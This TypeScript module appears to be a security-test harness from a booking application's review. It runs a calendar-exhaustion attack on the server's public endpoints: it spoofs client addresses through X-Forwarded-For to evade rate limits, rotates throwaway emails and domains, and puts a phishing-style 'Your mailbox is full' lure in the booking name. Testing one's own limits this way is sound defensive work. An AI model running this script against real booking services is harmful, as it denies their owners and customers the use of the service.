/**
 * A calendar-exhaustion attack on a running server, through its public HTTP endpoints only: it
 * lists the bookable live-demo slots of the whole horizon, then books as many as it can, spread
 * so each booking blocks as much time as possible, from a small pool of rotating client
 * addresses (sent as X-Forwarded-For, which a server trusting loopback proxies believes) and a
 * fresh email address per booking, first all on one domain, then each on a domain of its own.
 * The figures are what the security review measured (issue 32) and what the integration test
 * holds the booking limits to.
 */

export interface ExhaustionOptions {
  /** Client addresses the attacker rotates through. */
  addresses?: number;
  /** Booking attempts on one email domain, then as many on one domain each. */
  attemptsPerPhase?: number;
  /** Requests in flight at once. */
  concurrency?: number;
  /** Days of calendar to list (the booking horizon). */
  days?: number;
  /** Distinguishes the addresses and domains of two runs against one server. */
  tag?: string;
}

export interface ExhaustionReport {
  slotsBefore: number;
  slotsAfter: number;
  /** slotsAfter / slotsBefore. */
  freeShare: number;
  attempts: number;
  /** Answers by HTTP status (201 booked, 202 held pending confirmation, 409, 429, …). */
  statuses: Record<string, number>;
  elapsedMs: number;
}

type Slot = { start: string; end: string };

const DAY = 86_400_000;

async function demoSlots(base: string, days: number): Promise<Slot[]> {
  const slots: Slot[] = [];
  const today = new Date().toISOString().slice(0, 10);
  for (let offset = 0; offset < days; offset += 31) {
    const from = new Date(Date.parse(today) + offset * DAY).toISOString().slice(0, 10);
    const span = Math.min(31, days - offset);
    const response = await fetch(`${base}/api/booking/slots?type=demo&from=${from}&days=${span}&tz=UTC`);
    if (!response.ok) throw new Error(`slots ${from}: ${response.status}`);
    slots.push(...((await response.json()) as { slots: Slot[] }).slots);
  }
  return slots;
}

/**
 * Starts far enough apart that no two bookings share blocked time: each one then removes its
 * own start and the starts next to it, the most damage per booking.
 */
function spread(slots: Slot[]): Slot[] {
  const chosen: Slot[] = [];
  let blockedUntil = 0;
  for (const slot of slots) {
    const start = Date.parse(slot.start);
    if (start < blockedUntil) continue;
    chosen.push(slot);
    blockedUntil = start + 70 * 60_000;
  }
  return chosen;
}

export async function exhaustCalendar(
  base: string,
  options: ExhaustionOptions = {},
): Promise<ExhaustionReport> {
  const addresses = options.addresses ?? 23;
  const perPhase = options.attemptsPerPhase ?? 130;
  const concurrency = options.concurrency ?? 8;
  const tag = options.tag ?? "a";
  const before = await demoSlots(base, options.days ?? 60);
  const targets = spread(before);
  const jobs: { slot: Slot; email: string; ip: string }[] = [];
  for (let i = 0; i < perPhase * 2 && targets.length > 0; i++) {
    const slot = targets[i % targets.length] as Slot;
    const domain = i < perPhase ? `target-${tag}.example` : `corp-${tag}-${i}.example`;
    jobs.push({
      slot,
      email: `it-${tag}-${i}@${domain}`,
      ip: `198.18.${tag.charCodeAt(0) % 200}.${(i % addresses) + 1}`,
    });
  }
  const statuses: Record<string, number> = {};
  const began = performance.now();
  let next = 0;
  const worker = async () => {
    while (next < jobs.length) {
      const job = jobs[next++] as (typeof jobs)[number];
      const response = await fetch(`${base}/api/booking`, {
        method: "POST",
        headers: { "Content-Type": "application/json", "X-Forwarded-For": job.ip },
        body: JSON.stringify({
          type: "demo",
          start: job.slot.start,
          name: "Your mailbox is full",
          email: job.email,
          company: "Target Co",
          timeZone: "UTC",
        }),
      });
      await response.arrayBuffer();
      statuses[response.status] = (statuses[response.status] ?? 0) + 1;
    }
  };
  await Promise.all(Array.from({ length: concurrency }, worker));
  const elapsedMs = Math.round(performance.now() - began);
  const after = await demoSlots(base, options.days ?? 60);
  return {
    slotsBefore: before.length,
    slotsAfter: after.length,
    freeShare: before.length === 0 ? 0 : after.length / before.length,
    attempts: jobs.length,
    statuses,
    elapsedMs,
  };
}
